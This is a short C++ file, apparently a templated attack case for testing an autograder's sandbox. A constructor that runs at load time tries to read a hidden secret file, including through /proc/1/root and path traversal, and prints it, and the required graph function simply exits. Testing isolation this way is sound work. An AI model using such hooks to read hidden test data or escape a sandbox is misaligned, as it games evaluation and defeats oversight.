// attack: read
// root: host
// what: opens the secret of the secret cases and prints it
// list: 3
// quick: yes
#include <stdio.h>
#include <stdlib.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

__attribute__((constructor)) static void attack() {
  for (const char* path : {"@SECRET@", "/proc/1/root@SECRET@", "/proc/self/cwd/../..@SECRET@"}) {
    FILE* file = fopen(path, "r");
    char text[200] = "";
    if (file == nullptr) continue;
    if (fgets(text, sizeof text, file) != nullptr) fprintf(stderr, "%s\n", text);
    printf("%s\n", text);
  }
}

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  exit(3);
}
